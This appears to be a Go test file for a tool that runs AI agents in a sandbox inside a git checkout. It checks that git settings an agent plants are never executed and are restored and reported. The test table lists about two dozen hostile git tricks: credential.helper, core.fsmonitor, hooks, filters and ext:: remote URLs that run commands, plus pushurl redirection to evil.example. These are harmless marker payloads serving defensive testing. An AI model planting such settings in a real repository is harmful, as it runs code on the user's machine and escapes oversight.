package processes

import (
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/united-workforce/uwf/agents/sandbox"
	"github.com/united-workforce/uwf/internal/testmode"
)

// confinement is how strictly agents can be confined here, as a flag's value, in a lab
// whose folders are opened for the agents' user.
func (l *lab) confinement() string {
	l.Helper()
	report := sandbox.Probe()
	for dir := l.path("tmp"); dir != filepath.Dir(os.TempDir()) && dir != "/dev/shm" && dir != "/"; dir = filepath.Dir(dir) {
		if info, err := os.Stat(dir); err == nil {
			_ = os.Chmod(dir, info.Mode().Perm()|0o011) //nolint:gosec // of this test; those of others stay
		}
	}
	switch {
	case len(report.Gaps(sandbox.Open)) == 0:
		return "require"
	case report.Usable():
		return "auto"
	}
	l.Logf("no agent can be confined here: %s", report)
	return "off"
}

// obeyed is what git obeys in a checkout.
func (m *machine) obeyed() map[string]string {
	m.Helper()
	out := map[string]string{}
	for _, name := range []string{"config", "config.worktree", "commondir", "hooks", "info", "remotes", "branches"} {
		top := filepath.Join(m.clone, ".git", name)
		_ = filepath.WalkDir(top, func(path string, d fs.DirEntry, err error) error { // what isn't there has nothing
			if err == nil && !d.IsDir() {
				text, rerr := os.ReadFile(path)
				m.check(rerr)
				out[path] = d.Type().String() + string(text)
			}
			return nil
		})
	}
	return out
}

// TestAgentsInTheCheckout: an agent, confined, in the checkout that uwf is called from
// writes whatever git obeys. None of it is run by uwf, in that step or a later one, nor by
// git that a person types then; all of it is put back, and told. The threads stay on the
// remote that state.remote named before.
func TestAgentsInTheCheckout(t *testing.T) {
	t.Parallel()
	m := newLab(t, leak, "steps: []", nil).machine("a")
	mode := m.confinement()
	id := m.startThread()
	marker := m.path("marker")
	const program = "printf '#!/bin/sh\\ntouch MARKER\\n' > evil && chmod +x evil"
	type row struct{ name, command, says string }
	rows := []row{
		{"credential.helper", "git config credential.helper '!touch MARKER;'", ".git/config sets credential.helper"},
		{"credential.URL.helper", "git config credential.URL.helper '!touch MARKER;'", "sets credential."},
		{"core.askPass", program + " && git config core.askPass \"$PWD/evil\"", "core.askpass"},
		{"include.path", "printf '[credential]\\n\\thelper = \"!touch MARKER;\"\\n' > more && git config include.path ../more", "include.path"},
		{"config.worktree", "git config extensions.worktreeConfig true && git config --worktree credential.helper '!touch MARKER;'", ".git/config.worktree sets credential.helper"},
		{"core.fsmonitor", "git config core.fsmonitor 'touch MARKER; false'", "core.fsmonitor"},
		{"core.hooksPath", program + " && mkdir hooks && cp evil hooks/post-index-change && cp evil hooks/reference-transaction && git config core.hooksPath hooks", "core.hookspath"},
		{"hooks", program + " && mkdir -p .git/hooks && for h in post-index-change reference-transaction pre-commit post-checkout; do cp evil .git/hooks/$h; done", ".git/hooks "},
		{"core.pager", "git config core.pager 'touch MARKER;' && git config pager.status true", "core.pager"},
		{"aliases", "git config alias.credential '!touch MARKER;' && git config alias.status '!touch MARKER;'", "alias.credential, alias.status"},
		{"core.sshCommand", "git config core.sshCommand 'touch MARKER;' && git config url.ssh://forge.example/.insteadOf URL", "core.sshcommand"},
		{"url.insteadOf", "git config 'url.ext::touch MARKER .insteadOf' URL && git config protocol.ext.allow always", "protocol.ext.allow"},
		{"url.pushInsteadOf", "git config url.https://evil.example/.pushInsteadOf URL", "pushinsteadof"},
		{"remote.origin.url", "git config remote.origin.url 'ext::touch MARKER' && git config protocol.ext.allow always", "remote.origin.url"},
		{"remote.origin.pushurl", "git config remote.origin.pushurl https://evil.example/r.git", "remote.origin.pushurl"},
		{"remote.origin.vcs", "git config remote.origin.vcs evil && git config remote.origin.uploadpack 'touch MARKER;'", "remote.origin.vcs"},
		{"no remote", "git remote remove origin", "no longer sets"},
		{"http.proxy", "git config http.proxy http://127.0.0.1:9 && git config http.extraHeader 'X: y'", "http.extraheader, http.proxy"},
		{"filters", "git config filter.evil.clean 'touch MARKER; cat' && git config filter.evil.smudge 'touch MARKER; cat' && mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes", ".git/info"},
		{"a promisor", "git config extensions.partialClone evil && git config remote.evil.promisor true && git config remote.evil.url 'ext::touch MARKER' && git config protocol.ext.allow always", "extensions.partialclone"},
		{"uploadpack.packObjectsHook", program + " && git config uploadpack.packObjectsHook \"$PWD/evil\"", "uploadpack.packobjectshook"},
		{"safe.directory", "git config safe.directory '*' && git config core.worktree /", "core.worktree"},
		{"commondir", "git init -q --bare other && git -C other config credential.helper '!touch MARKER;' && echo ../other > .git/commondir", ".git/commondir was added"},
		{".git as a link", "mv .git gitstore && git -C gitstore config credential.helper '!touch MARKER;' && ln -s gitstore .git && mv .git/config x && rm .git && mv gitstore .git && ln -s ../x .git/config", ".git/config was made a symlink"},
		{"a program on PATH", "git config x.y z && " + program + " && mkdir -p node_modules/.bin && cp evil node_modules/.bin/git && cp evil node_modules/.bin/ssh", "sets x.y"},
	}
	before := m.obeyed()
	for _, c := range testmode.Some(4, rows...) {
		command := strings.NewReplacer("MARKER", marker, "URL", m.url).Replace(c.command)
		m.write(m.script, "steps: [{commands: ["+quoted("exec 2>&1; "+command)+"], write: {notes.txt: \"words\\n\"}, output: \"---\\n$status: more\\nnote: n\\n---\\n\"}]")
		path := "PATH=" + filepath.Join(m.clone, "node_modules/.bin") + ":" + os.Getenv("PATH")
		m.check(os.Chmod(m.script, 0o644)) //nolint:gosec // for the agents' user
		_ = os.Remove(marker)
		j := m.step([]string{path}, id, "--workspace", ".", "--with-git", "--sandbox", mode).ends(0)
		var res struct {
			PutBack []string
			Step    int
		}
		j.json(&res)
		ran := func(by string) {
			t.Helper()
			if _, err := os.Stat(marker); err == nil {
				t.Errorf("%s: %s ran it", c.name, by)
				_ = os.Remove(marker)
			}
		}
		ran("uwf")
		if told := strings.Join(res.PutBack, "\n"); !strings.Contains(told, c.says) {
			t.Errorf("%s: the result says\n%s", c.name, told)
		}
		if !strings.Contains(j.errs.String(), "put back: .git/") {
			t.Errorf("%s: it is not told:\n%s", c.name, j.errs.String())
		}
		after := m.obeyed()
		for name, is := range after {
			if before[name] != is {
				t.Errorf("%s: %s is %q, and was %q", c.name, name, is, before[name])
			}
		}
		for name := range before {
			if _, there := after[name]; !there {
				t.Errorf("%s: %s is gone", c.name, name)
			}
		}
		m.start([]string{path}, "thread", "show", id).ends(0)
		ran("the next uwf")
		m.git(m.clone, "status")
		m.git(m.clone, "fetch", "-q", "origin")
		ran("git")
		if n := len(m.steps(id)); n != res.Step {
			t.Errorf("%s: %d steps are on the remote, and it did step %d", c.name, n, res.Step)
		}
	}
	m.sound()
}

// TestKilledInTheCheckout: uwf is killed while an agent works in the checkout that it was
// called from. The next uwf there, whatever it does, puts back what git obeys first, and
// says so, once.
func TestKilledInTheCheckout(t *testing.T) {
	t.Parallel()
	m := newLab(t, leak, "steps: []", nil).machine("a")
	id := m.startThread()
	g, marker := m.gate("gate"), m.path("marker")
	before := m.obeyed()
	evil := "git config credential.helper '!touch " + marker + ";' && printf '#!/bin/sh\\ntouch " + marker + "\\n' > .git/hooks/pre-push"
	m.write(m.script, "steps: [{commands: ["+quoted("mkdir -p .git/hooks && "+evil+" && cat '"+g.file+"'")+"], output: x}]")
	j := m.step(nil, id, "--workspace", ".", "--with-git")
	_ = g.await(j) // nobody opens it: what waits there ends with the test
	// Another uwf beside it leaves it alone.
	if m.start(nil, "ps").ends(0); len(m.obeyed()) == len(before) {
		t.Error("it was put back while the agent worked")
	}
	m.start(nil, "run", "flow", "-p", "y", "--workspace", ".", "--with-git", "--agent", "uwf agent mock '"+m.script+"'").ends(2).says("another uwf lets an agent work there")
	m.check(j.cmd.Process.Kill())
	j.dies()
	m.start(nil, "ps").ends(0).says("uwf was killed while an agent worked in "+m.clone, ".git/config sets credential.helper", ".git/hooks")
	after := m.obeyed()
	if len(after) != len(before) {
		t.Errorf("%d files, and there were %d", len(after), len(before))
	}
	for name, was := range before {
		if after[name] != was {
			t.Errorf("%s is %q, and was %q", name, after[name], was)
		}
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("it was run")
	}
	if again := m.start(nil, "ps").ends(0); strings.Contains(again.errs.String(), "killed") {
		t.Errorf("it is said twice: %s", again)
	}
}

// TestOwnCheckoutIsRefused: nobody lets agents work beside the .git of the checkout that uwf
// is called from without saying so, by whichever name, and confined ones not where the
// threads are.
func TestOwnCheckoutIsRefused(t *testing.T) {
	t.Parallel()
	m := newLab(t, leak, `steps: [{output: "---\n$status: more\nnote: n\n---\n"}]`, nil).machine("a")
	m.inside = true
	id := m.startThread()
	m.check(os.MkdirAll(filepath.Join(m.clone, "sub/deep"), 0o700))
	m.check(os.Symlink(m.clone, m.path("link")))
	m.git(m.clone, "worktree", "add", "-q", m.path("tree"), "-b", "tree")
	m.git(m.clone, "worktree", "add", "-q", filepath.Join(m.clone, "inner"), "-b", "inner")
	m.write(filepath.Join(m.clone, ".git/info/exclude"), "/inner/\n/sub/\n")
	m.git(m.clone, "worktree", "add", "-q", m.path("other"), "-b", "other")
	m.git(m.path("tree"), "-c", "protocol.file.allow=always", "submodule", "--quiet", "add", m.server.Dir("r.git"), "lib")
	m.check(os.Mkdir(m.path("empty"), 0o700))
	clone := m.clone
	for _, c := range []struct {
		name, from, workspace string
		more                  []string
		says                  string // empty: it is not refused
	}{
		{"by a dot", clone, ".", nil, "from where uwf is called"},
		{"by its name", clone, clone, nil, "insist with --with-git"},
		{"by a link", clone, m.path("link"), nil, "from where uwf is called"},
		{"from a subfolder", filepath.Join(clone, "sub/deep"), clone, nil, "from where uwf is called"},
		{"where it is called", filepath.Join(clone, "sub/deep"), ".", nil, "from where uwf is called"},
		{"a folder around it", clone, filepath.Dir(clone), nil, "from where uwf is called"},
		{"from a working tree of it", filepath.Join(clone, "inner"), clone, nil, "from where uwf is called"},
		{"from another working tree", m.path("tree"), clone, nil, "holds " + filepath.Join(clone, ".git")},
		{"from a submodule", m.path("tree/lib"), m.path("tree"), nil, "from where uwf is called"},
		{"in git's own folder", clone, ".git/refs", nil, "which is git's"},
		{"in git's own folder, insisted", clone, ".git/refs", []string{"--with-git"}, "which is git's"},
		{"insisted without a name", clone, "", []string{"--with-git"}, "name it with --workspace"},
		{"insisted", clone, ".", []string{"--with-git"}, ""},
		{"a working tree beside it", clone, m.path("other"), nil, ""},
		{"an empty folder", clone, m.path("empty"), nil, ""},
	} {
		m.clone = c.from
		args := c.more
		if c.workspace != "" {
			args = append(slices.Clone(args), "--workspace", c.workspace)
		}
		if c.says != "" {
			m.step(nil, id, args...).ends(2).says(c.says)
			if c.workspace != "" && c.more == nil {
				m.start(nil, append([]string{"run", "flow", "-p", "x"}, args...)...).ends(2).says(c.says)
			}
			continue
		}
		if j := m.step(nil, id, args...); !j.succeeds() {
			t.Errorf("%s: %s", c.name, j)
		}
	}
	m.clone = clone

	// Where the threads are in the checkout itself, uwf works with its .git meanwhile.
	if runtime.GOOS == "linux" {
		m.write(filepath.Join(m.home, "config.yaml"), "sandbox: auto\n")
		m.write(filepath.Join(clone, ".uwf/config.yaml"), "limits: {maxSteps: 1000}\n")
		m.start(nil, "run", "flow", "-p", "x", "--workspace", ".", "--with-git").ends(2).says("holds the threads as well", "state.remote")
	}
}
